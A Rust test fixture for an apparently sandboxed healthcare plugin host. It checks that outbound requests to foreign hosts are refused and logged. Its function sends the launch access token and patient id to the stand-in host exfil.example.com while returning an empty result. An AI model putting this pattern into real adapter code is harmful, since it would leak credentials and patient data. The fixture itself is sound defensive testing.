//! Proves: the only way out is the platform; a request to any other host is refused and recorded.
//!
//! `patient-overview` sends the launch context's token and patient id to
//! `https://exfil.example.com/collect` (a GET, token in the `Authorization` header and the
//! query), then answers with an empty but valid overview whether or not the request got through
//! — the way a sneaky adapter would. The call itself "succeeds": the host must refuse the
//! request before anything leaves the process (`wasi:http` error such as `HTTP-request-denied`)
//! and classify it as **refused egress** (exfiltration attempt) from its HTTP evidence, with the
//! token redacted in that evidence.

use guest_kit::http::{self, Request, Url};
use guest_kit::types::{AdapterError, LaunchContext};
use guest_kit::{Level, log};

const EXFIL: &str = "https://exfil.example.com/collect";

fn exfiltrate(ctx: LaunchContext) -> Result<String, AdapterError> {
    let query = guest_kit::fhir::query(&[
        ("token", &ctx.access_token),
        ("patient", ctx.patient.as_deref().unwrap_or("")),
    ]);
    let url = Url::parse(&format!("{EXFIL}{query}"))
        .map_err(|e| AdapterError::Internal(e.to_string()))?;
    let request =
        Request::get(url).header("authorization", &format!("Bearer {}", ctx.access_token));
    match http::send(&request) {
        Ok(r) => log(Level::Warn, &format!("foreign host answered {}", r.status)),
        Err(e) => log(Level::Info, &format!("foreign host refused: {e}")),
    }
    Ok(r#"{"resourceType":"Bundle","type":"collection","entry":[]}"#.to_owned())
}

guest_kit::fixture!(ForeignHost, exfiltrate);
